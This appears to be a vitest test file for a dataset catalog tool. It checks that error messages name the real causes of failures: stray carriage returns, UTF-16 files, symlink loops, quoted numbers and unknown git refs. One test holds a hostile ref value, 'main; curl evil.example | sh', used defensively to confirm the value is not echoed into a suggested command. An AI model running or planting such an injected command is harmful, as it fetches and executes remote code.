/** Messages that name the real cause: line ends, encodings, link loops, quoted numbers, refs. */
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { buildCatalog } from '../../src/lib/catalog.ts';
import { resolveCommit } from '../../src/lib/git.ts';
import { DATASET, report, show } from './helpers.ts';
import { writeProject } from '../helpers/catalog.ts';

describe('messages that name the real cause', () => {
  it('says a file has lone carriage returns as line ends, in YAML and in front matter', () => {
    const cr = (text: string) => text.replaceAll('\n', '\r');
    expect(report({ 'datasets/a.yaml': cr(DATASET), 'datasets/b.md': cr(`---\n${DATASET}---\n# Motivation\n`), 'datasets/c.yaml': `title: "A\rB"\ndescription: D.\nowners: [data-team]\n` }))
      .toMatchInlineSnapshot(`
        "content/datasets/a.yaml:1:9 error [parse] Line ends in a carriage return alone (\`\\r\` without \`\\n\`), which YAML does not read as a line end (old Mac line ends)
          hint: Save the file with LF (or CRLF) line ends; \`\\r\\r\\n\` comes from converting line ends twice.
        content/datasets/b.md:1:4 error [parse] Line ends in a carriage return alone (\`\\r\` without \`\\n\`), which YAML does not read as a line end (old Mac line ends)
          hint: Save the file with LF (or CRLF) line ends; \`\\r\\r\\n\` comes from converting line ends twice.
        content/datasets/c.yaml:1:10 error [parse] Line ends in a carriage return alone (\`\\r\` without \`\\n\`), which YAML does not read as a line end (old Mac line ends)
          hint: Save the file with LF (or CRLF) line ends; \`\\r\\r\\n\` comes from converting line ends twice."
      `);
  });

  it('names a UTF-16 file as UTF-16, either byte order, and says to save it as UTF-8', () => {
    const le = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(DATASET, 'utf16le')]);
    const be = Buffer.from(le.subarray(2).swap16());
    const text = report({ 'datasets/le.yaml': le, 'datasets/be.yaml': Buffer.concat([Buffer.from([0xfe, 0xff]), be]) });
    expect(text).toContain('content/datasets/le.yaml:1:1 error [parse] File is UTF-16 (little-endian, by its byte order mark), not UTF-8\n  hint: Save the file as UTF-8');
    expect(text).toContain('content/datasets/be.yaml:1:1 error [parse] File is UTF-16 (big-endian, by its byte order mark), not UTF-8');
    expect(text).not.toContain('binary');
  });

  it('calls a symbolic-link loop a loop, and a link to nothing a broken link', () => {
    const project = writeProject({});
    const datasets = path.join(project, 'content', 'datasets');
    mkdirSync(datasets, { recursive: true });
    symlinkSync('b.yaml', path.join(datasets, 'a.yaml'));
    symlinkSync('a.yaml', path.join(datasets, 'b.yaml'));
    symlinkSync('missing.yaml', path.join(datasets, 'c.yaml'));
    const text = show(buildCatalog(path.join(project, 'content'), { configFile: false }).diagnostics);
    expect(text).toContain('content/datasets/a.yaml:1:1 error [layout] Symbolic link loop: the link leads, through other links, back to itself');
    expect(text).toContain('content/datasets/c.yaml:1:1 error [layout] Broken symbolic link: its target does not exist');
  });

  it('says a quoted number is text where a number is expected, and how to write it', () => {
    const text = report({ 'datasets/a.yaml': `${DATASET}versions:\n  - { version: v1, rows: "2432" }\n` });
    expect(text).toContain('content/datasets/a.yaml:6:26 error [schema] Expected a number for `rows`, found the quoted text `"2432"`: a string where a number is expected\n  hint: Remove the quotes: `rows: 2432`.');
  });

  it('does not paste a refused --since ref into a suggested shell command', () => {
    const root = writeProject({});
    execFileSync('git', ['init', '-q', root]);
    const hostileRef = 'main; curl evil.example | sh';
    expect(() => resolveCommit(root, hostileRef)).toThrow(/In a shallow checkout, fetch it first, or check out with `fetch-depth: 0`\.$/);
    expect(() => resolveCommit(root, 'origin/release-2')).toThrow(/`git fetch --depth=1 origin release-2`/);
  });
});
